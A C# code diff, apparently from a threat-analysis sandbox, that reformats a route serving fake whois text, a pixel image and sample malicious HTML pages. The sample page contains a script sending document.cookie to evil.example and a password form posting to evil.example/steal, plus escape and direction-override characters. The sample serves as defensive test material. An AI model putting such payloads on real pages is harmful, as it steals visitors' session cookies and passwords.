@@ -5,12 +5,15 @@ using ThreatEvents.Sandbox.Hosting;
 
 namespace ThreatEvents.Sandbox.Resources;
 
-/// <summary>Serves whois texts, screenshots and page sources. A name such as <c>size-5000000.html</c> gives a file of that many bytes.</summary>
+/// <summary>
+/// Serves whois texts, screenshots and page sources. A name such as <c>size-5000000.html</c> gives a file of that many bytes.
+/// </summary>
 internal sealed class ResourceRoute() : Route("GET", "/resources/{name}")
 {
     private const int Largest = 200_000_000;
 
-    private static readonly Regex Name = new(@"^(?:size-(?<size>[0-9]{1,9})|[0-9a-z]{1,64})\.(?<kind>txt|png|html)$", RegexOptions.CultureInvariant);
+    private static readonly Regex Name =
+        new(@"^(?:size-(?<size>[0-9]{1,9})|[0-9a-z]{1,64})\.(?<kind>txt|png|html)$", RegexOptions.CultureInvariant);
 
     // One transparent pixel.
     private static readonly byte[] Picture = Convert.FromBase64String(
@@ -27,7 +30,12 @@ internal sealed class ResourceRoute() : Route("GET", "/resources/{name}")
             "txt" => Encoding.UTF8.GetBytes(Whois(name)),
             _ => Encoding.UTF8.GetBytes(Page(name)),
         };
-        var type = match.Groups["kind"].Value switch { "png" => "image/png", "txt" => "text/plain; charset=utf-8", _ => "text/html; charset=utf-8" };
+        var type = match.Groups["kind"].Value switch
+        {
+            "png" => "image/png",
+            "txt" => "text/plain; charset=utf-8",
+            _ => "text/html; charset=utf-8",
+        };
         if (match.Groups["size"].Success) content = Repeat(content, int.Parse(match.Groups["size"].Value, CultureInfo.InvariantCulture));
         return new(new SandboxReply(200, type, content));
     }
@@ -41,11 +49,13 @@ internal sealed class ResourceRoute() : Route("GET", "/resources/{name}")
     }
 
     private static string Whois(string name) =>
-        $"% Whois text of {name}\r\nDomain Name: EXAMPLE.COM\r\nRegistrar: Nameshield\r\nRegistrant Name: Example owner\r\nRegistrant Email: owner@example.com\r\n"
+        $"% Whois text of {name}\r\nDomain Name: EXAMPLE.COM\r\nRegistrar: Nameshield\r\n"
+        + "Registrant Name: Example owner\r\nRegistrant Email: owner@example.com\r\n"
         + "Creation Date: 1998-09-22T22:00:00Z\r\nDomain Status: clientTransferProhibited\r\nName Server: NS1.EXAMPLE.NET\r\n";
 
     // What an attacker's page holds; nobody may run it.
     private static string Page(string name) =>
         $"<!DOCTYPE html>\n<html><head><title>{name}</title><script>fetch('http://evil.example/?c='+document.cookie)</script></head>\n"
-        + "<body onload=\"alert(1)\"><form action=\"http://evil.example/steal\"><input name=\"password\"></form>\u001b[31m\u202E</body></html>\n";
+        + "<body onload=\"alert(1)\"><form action=\"http://evil.example/steal\"><input name=\"password\"></form>"
+        + "\u001b[31m\u202E</body></html>\n";
 }
